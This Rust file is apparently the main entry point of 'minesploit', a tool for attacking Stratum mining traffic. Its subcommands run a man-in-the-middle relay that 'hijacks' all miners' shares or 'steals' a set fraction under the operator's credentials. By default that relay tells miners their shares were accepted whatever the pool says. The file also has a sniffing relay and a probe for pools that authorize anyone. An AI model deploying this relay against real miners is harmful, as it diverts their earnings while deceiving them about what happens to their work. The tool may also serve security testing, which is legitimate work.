//! Main entry point for minesploit.
//!
//! Each subcommand runs one role: the test pool, one of the relays, a
//! worker, or the handshake probe. Long-running roles are driven by the
//! [`Daemon`] and can expose the stats API with `--api`.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use clap::{Args, Parser, Subcommand};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use minesploit::api::ApiConfig;
use minesploit::append_log::{CaptureLog, LogConfig};
use minesploit::check::{Check, StratumHandshakeProbe};
use minesploit::daemon::{Daemon, Service};
use minesploit::pool::{Pool, PoolConfig};
use minesploit::relay::{Credentials, Relay, RelayConfig, RelayPolicy};
use minesploit::stratum_v1::protocol::{StaticCredentials, random_hex};
use minesploit::stratum_v1::{ClientCommand, ClientConfig, ClientEvent, StratumClient, SubmitParams};
use minesploit::tracing::{self, prelude::*};

#[derive(Parser, Debug)]
#[command(author, version, about, long_about = None)]
struct Cli {
    /// Serve the stats API on this address (pool and relay roles)
    #[arg(long, global = true, env = "MINESPLOIT_API")]
    api: Option<String>,

    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand, Debug)]
enum Command {
    /// Run a test pool that accepts miners and broadcasts synthetic jobs
    Pool(PoolArgs),
    /// Relay miners to a pool unchanged, recording the traffic
    Sniff(SniffArgs),
    /// Relay miners to a pool, submitting every share under our credentials
    Hijack(HijackArgs),
    /// Relay miners to a pool, submitting a fraction of shares under our credentials
    Steal(StealArgs),
    /// Connect to a pool as a worker
    Client(ClientArgs),
    /// Fingerprint a Stratum endpoint and check whether it authorizes anyone
    Probe(ProbeArgs),
}

#[derive(Args, Debug)]
struct PoolArgs {
    /// Address to listen on
    #[arg(short, long, default_value = "127.0.0.1:3333", env = "MINESPLOIT_BIND")]
    bind: String,

    /// Seconds between job broadcasts
    #[arg(long, default_value_t = 10, env = "MINESPLOIT_JOB_INTERVAL")]
    job_interval: u64,

    /// Extranonce2 size in bytes handed out at subscribe
    #[arg(long, default_value_t = 4)]
    extranonce2_size: usize,

    /// Send mining.set_difficulty with this value after subscribe
    #[arg(long, env = "MINESPLOIT_DIFFICULTY")]
    difficulty: Option<f64>,

    /// Append every accepted share to this JSON-lines file
    #[arg(long, env = "MINESPLOIT_SHARE_LOG")]
    share_log: Option<PathBuf>,

    /// Only authorize these workers (user:password, repeatable); default accepts anyone
    #[arg(long = "credential", value_name = "USER:PASS")]
    credentials: Vec<String>,
}

#[derive(Args, Debug)]
struct RelayArgs {
    /// Address miners connect to
    #[arg(short, long, default_value = "0.0.0.0:3333", env = "MINESPLOIT_LISTEN")]
    listen: String,

    /// Real pool (host:port or stratum+tcp://host:port)
    #[arg(short, long, env = "MINESPLOIT_UPSTREAM")]
    upstream: String,

    /// Append every relayed message to this JSON-lines file
    #[arg(long, env = "MINESPLOIT_CAPTURE")]
    capture: Option<PathBuf>,

    /// Drop frames that are not valid Stratum JSON instead of forwarding them
    #[arg(long)]
    strict: bool,

    /// Seconds to wait for the upstream connection
    #[arg(long, default_value_t = 10)]
    connect_timeout: u64,
}

#[derive(Args, Debug)]
struct SniffArgs {
    #[command(flatten)]
    relay: RelayArgs,
}

#[derive(Args, Debug)]
struct InterceptArgs {
    /// Worker name to submit intercepted shares under
    #[arg(long, default_value = "proxy_worker", env = "MINESPLOIT_USER")]
    user: String,

    /// Password for --user
    #[arg(long, default_value = "x", env = "MINESPLOIT_PASS")]
    pass: String,

    /// Forward the pool's real verdict instead of always reporting acceptance
    #[arg(long)]
    honest: bool,
}

#[derive(Args, Debug)]
struct HijackArgs {
    #[command(flatten)]
    relay: RelayArgs,

    #[command(flatten)]
    intercept: InterceptArgs,
}

#[derive(Args, Debug)]
struct StealArgs {
    #[command(flatten)]
    relay: RelayArgs,

    #[command(flatten)]
    intercept: InterceptArgs,

    /// Fraction of shares to steal, between 0 and 1
    #[arg(short, long, default_value_t = 0.1, env = "MINESPLOIT_RATIO")]
    ratio: f64,
}

#[derive(Args, Debug)]
struct ClientArgs {
    /// Pool URL (stratum+tcp://host:port or host:port)
    #[arg(short, long, default_value = "127.0.0.1:3333", env = "MINESPLOIT_URL")]
    url: String,

    /// Worker name
    #[arg(long, default_value = "worker1", env = "MINESPLOIT_USER")]
    user: String,

    /// Worker password
    #[arg(long, default_value = "x", env = "MINESPLOIT_PASS")]
    pass: String,

    /// Session id to resume
    #[arg(long)]
    session_id: Option<String>,

    /// Synthetic shares to submit for every new job
    #[arg(long, default_value_t = 1)]
    shares_per_job: usize,
}

#[derive(Args, Debug)]
struct ProbeArgs {
    /// Endpoint to probe (host:port or stratum+tcp://host:port)
    target: String,

    /// Seconds to wait for the connection and each response
    #[arg(long, default_value_t = 5)]
    timeout: u64,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing::init_journald_or_stdout();

    let cli = Cli::parse();
    let mut daemon = Daemon::new();
    if let Some(bind_addr) = cli.api {
        daemon = daemon.with_api(ApiConfig { bind_addr });
    }

    match cli.command {
        Command::Pool(args) => daemon.run(Service::Pool(pool(args).await?)).await,
        Command::Sniff(args) => {
            let capture = capture_log(args.relay.capture.clone()).await?;
            let policy = RelayPolicy::sniffer(capture);
            daemon.run(Service::Relay(relay(args.relay, policy).await?)).await
        }
        Command::Hijack(args) => {
            let policy = intercept_policy(RelayPolicy::credential_theft(credentials(&args.intercept)), &args.intercept);
            let policy = with_optional_capture(policy, &args.relay).await?;
            daemon.run(Service::Relay(relay(args.relay, policy).await?)).await
        }
        Command::Steal(args) => {
            if !(0.0..=1.0).contains(&args.ratio) {
                bail!("--ratio must be between 0 and 1, got {}", args.ratio);
            }
            let policy = intercept_policy(
                RelayPolicy::share_stealing(credentials(&args.intercept), args.ratio),
                &args.intercept,
            );
            let policy = with_optional_capture(policy, &args.relay).await?;
            daemon.run(Service::Relay(relay(args.relay, policy).await?)).await
        }
        Command::Client(args) => client(args).await,
        Command::Probe(args) => probe(args).await,
    }
}

async fn pool(args: PoolArgs) -> Result<Pool> {
    let config = PoolConfig {
        bind_addr: args.bind,
        job_interval: Duration::from_secs(args.job_interval),
        extranonce2_size: args.extranonce2_size,
        initial_difficulty: args.difficulty,
        share_log_path: args.share_log,
    };
    let pool = Pool::bind(config.clone())
        .await
        .with_context(|| format!("failed to start pool on {}", config.bind_addr))?;

    if args.credentials.is_empty() {
        return Ok(pool);
    }
    let mut authorizer = StaticCredentials::new();
    for credential in &args.credentials {
        let Some((user, pass)) = credential.split_once(':') else {
            bail!("credential {:?} is not USER:PASS", credential);
        };
        authorizer = authorizer.with(user, pass);
    }
    Ok(pool.with_authorizer(Arc::new(authorizer)))
}

fn credentials(args: &InterceptArgs) -> Credentials {
    Credentials {
        username: args.user.clone(),
        password: args.pass.clone(),
    }
}

fn intercept_policy(policy: RelayPolicy, args: &InterceptArgs) -> RelayPolicy {
    if args.honest {
        policy.with_honest_verdicts()
    } else {
        policy
    }
}

/// Capture log for relayed traffic. Without a path nothing is kept and the
/// per-message log lines are the only record.
async fn capture_log(path: Option<PathBuf>) -> Result<CaptureLog> {
    if let Some(path) = &path {
        info!(path = %path.display(), "Capturing traffic");
    }
    let display = path.as_ref().map(|p| p.display().to_string());
    CaptureLog::spawn(LogConfig {
        path,
        keep_in_memory: false,
    })
    .await
    .with_context(|| format!("failed to open capture log {}", display.unwrap_or_default()))
}

async fn with_optional_capture(policy: RelayPolicy, args: &RelayArgs) -> Result<RelayPolicy> {
    match &args.capture {
        Some(path) => Ok(policy.with_capture(capture_log(Some(path.clone())).await?)),
        None => Ok(policy),
    }
}

async fn relay(args: RelayArgs, policy: RelayPolicy) -> Result<Relay> {
    let policy = policy.with_strict(args.strict);
    let config = RelayConfig {
        listen_addr: args.listen,
        upstream_addr: args.upstream,
        connect_timeout: Duration::from_secs(args.connect_timeout),
    };
    Relay::bind(config.clone(), policy)
        .await
        .with_context(|| format!("failed to start relay on {}", config.listen_addr))
}

async fn client(args: ClientArgs) -> Result<()> {
    let shutdown = CancellationToken::new();
    let (event_tx, mut event_rx) = mpsc::channel(100);
    let (cmd_tx, cmd_rx) = mpsc::channel(100);

    let config = ClientConfig {
        url: args.url,
        username: args.user,
        password: args.pass,
        session_id: args.session_id,
        ..Default::default()
    };
    let client = StratumClient::with_commands(config, event_tx, cmd_rx, shutdown.clone());
    let mut task = tokio::spawn(client.run());

    let mut extranonce2_size = 0;
    let (mut accepted, mut rejected) = (0u64, 0u64);

    loop {
        tokio::select! {
            event = event_rx.recv() => {
                let Some(event) = event else { break };
                match event {
                    ClientEvent::Subscribed { extranonce1, extranonce2_size: size, .. } => {
                        info!(extranonce1 = %extranonce1, extranonce2_size = size, "Subscribed");
                        extranonce2_size = size;
                    }
                    ClientEvent::Authorized => info!("Authorized"),
                    ClientEvent::NewJob(job) => {
                        info!(job_id = %job.job_id, clean = job.clean_jobs, "New job");
                        for _ in 0..args.shares_per_job {
                            let share = SubmitParams {
                                job_id: job.job_id.clone(),
                                extranonce2: random_hex(extranonce2_size),
                                ntime: job.ntime.clone(),
                                nonce: random_hex(4),
                            };
                            if cmd_tx.send(ClientCommand::SubmitShare(share)).await.is_err() {
                                break;
                            }
                        }
                    }
                    ClientEvent::DifficultyChanged(difficulty) => info!(difficulty, "Difficulty changed"),
                    ClientEvent::ShareAccepted { job_id } => {
                        accepted += 1;
                        info!(job_id = %job_id, accepted, rejected, "Share accepted");
                    }
                    ClientEvent::ShareRejected { job_id, reason } => {
                        rejected += 1;
                        warn!(job_id = %job_id, reason = %reason, accepted, rejected, "Share rejected");
                    }
                    ClientEvent::Disconnected => break,
                }
            }

            result = &mut task => {
                return match result? {
                    Ok(()) => Ok(()),
                    Err(e) => Err(e).context("client failed"),
                };
            }

            _ = tokio::signal::ctrl_c() => {
                info!("Received SIGINT");
                shutdown.cancel();
            }
        }
    }

    shutdown.cancel();
    task.await?.context("client failed")
}

async fn probe(args: ProbeArgs) -> Result<()> {
    let probe = StratumHandshakeProbe {
        timeout: Duration::from_secs(args.timeout),
    };
    let result = probe
        .check(&args.target)
        .await
        .with_context(|| format!("{} could not run against {}", probe.name(), args.target))?;

    if result.success {
        warn!(target_addr = %args.target, "{}", result.message);
    } else {
        info!(target_addr = %args.target, "{}", result.message);
    }
    println!("{}", serde_json::to_string_pretty(&result)?);
    Ok(())
}
